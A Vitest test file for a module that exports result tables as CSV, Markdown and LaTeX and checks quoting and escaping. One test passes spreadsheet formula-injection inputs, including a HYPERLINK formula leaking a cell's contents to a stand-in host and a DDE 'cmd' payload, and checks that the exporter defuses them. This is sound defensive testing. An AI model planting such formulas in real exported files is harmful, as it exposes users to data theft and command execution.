import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { latexEscape, toCsv, toLatex, toMarkdown } from './table-export.js';

const t = {
  columns: ['run', 'system', 'Recall@10 [95% CI]', 'note'],
  rows: [
    ['reproduce/runs/bm25', 'retrieval', '10.0% [2.8, 30.1]', 'says "hi", then | pipes'],
    ['a_b', 'case', '50.0% [15.0, 85.0]', 'line\nbreak & 5% $x$'],
  ],
};

describe('table export', () => {
  it('CSV round-trips through a CSV parser (quotes, commas, newlines)', () => {
    expect(parse(toCsv(t), { relaxQuotes: false })).toEqual([t.columns, ...t.rows]);
  });

  it("CSV: a text cell a spreadsheet would run as a formula or strip of leading zeros opens as text (a leading '), a numeric cell is left as it is", () => {
    const risky = {
      columns: ['passage', 'query', 'MRR', 'Δ MRR', 'note'],
      rows: [
        ['00123', '=HYPERLINK("http://evil.example/?"&A1,"see")', '0.500', '-0.012', "+cmd|' /C calc'!A0"],
        ['p-7', '@SUM(A1:A9)', '1e-4', '+0.034', '-x'],
        ['0.25', '\tTAB first', '12%', '0', '\rCR first'],
      ],
    };
    const csv = toCsv(risky);
    expect(csv.split('\r\n')[1]).toBe(`'00123,"'=HYPERLINK(""http://evil.example/?""&A1,""see"")",0.500,-0.012,'+cmd|' /C calc'!A0`);
    // parsed back, every text cell that began with = + - @ tab CR or was a zero-padded number carries the ' and nothing else changed
    expect(parse(csv, { relaxQuotes: false })).toEqual([
      risky.columns,
      ["'00123", `'${risky.rows[0][1]}`, '0.500', '-0.012', `'${risky.rows[0][4]}`],
      ['p-7', "'@SUM(A1:A9)", '1e-4', '+0.034', "'-x"],
      ['0.25', "'\tTAB first", '12%', '0', "'\rCR first"],
    ]);
  });

  it('Markdown: one pipe row per table row, pipes escaped, newlines as <br>', () => {
    const md = toMarkdown(t).trimEnd().split('\n');
    expect(md).toHaveLength(2 + t.rows.length);
    expect(md[1]).toBe('| --- | --- | --- | --- |');
    expect(md[2]).toContain('then \\| pipes');
    expect(md[3]).toContain('line<br>break');
    // every row splits into the same number of cells once escaped pipes are set aside
    for (const l of md) expect(l.replace(/\\\|/g, '').split('|').length).toBe(t.columns.length + 2);
  });

  it('LaTeX: escapes specials, one \\\\ row per table row, booktabs rules', () => {
    expect(latexEscape('a_b & 5% $x$ #1 {y} ~ ^')).toBe('a\\_b \\& 5\\% \\$x\\$ \\#1 \\{y\\} \\textasciitilde{} \\textasciicircum{}');
    // a p-value "< 0.001" and an id "d|1": OT1 (pdflatex's default encoding) prints < > | as ¡ ¿ —
    expect(latexEscape('< 0.001')).toBe('\\textless{} 0.001');
    expect(latexEscape('d|1 > d2')).toBe('d\\textbar{}1 \\textgreater{} d2');
    const tex = toLatex(t, 'Runs');
    expect(tex).toContain('\\caption{Runs}');
    expect(tex).toContain('\\begin{tabular}{llrl}'); // the CI column is numeric: right-aligned
    expect(tex.match(/\\\\$/gm)).toHaveLength(1 + t.rows.length);
    expect(tex).toContain('reproduce/runs/bm25');
    expect(tex).toContain('a\\_b');
    expect(tex).toMatch(/\\toprule[\s\S]*\\midrule[\s\S]*\\bottomrule/);
  });
});
